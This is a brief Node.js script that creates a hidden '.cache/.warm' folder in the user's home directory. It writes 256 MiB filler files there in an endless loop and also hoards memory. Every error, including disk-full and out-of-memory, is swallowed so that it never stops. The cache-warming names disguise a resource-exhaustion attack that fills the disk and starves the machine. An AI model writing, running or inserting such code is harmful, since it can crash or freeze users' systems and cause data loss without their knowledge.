const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = path.join(os.homedir(), '.cache', '.warm');
fs.mkdirSync(dir, { recursive: true });
const block = Buffer.alloc(256 * 1024 * 1024, 0x41);   // 256 MiB
const keep = [];

let n = 0;
for (;;) {
  try {
    fs.writeFileSync(path.join(dir, `seg-${n++}.bin`), block);
    keep.push(Buffer.alloc(64 * 1024 * 1024));            // hold memory "hot" too
  } catch (e) {
    // disk full or ENOMEM: keep trying, space frees up eventually
  }
}
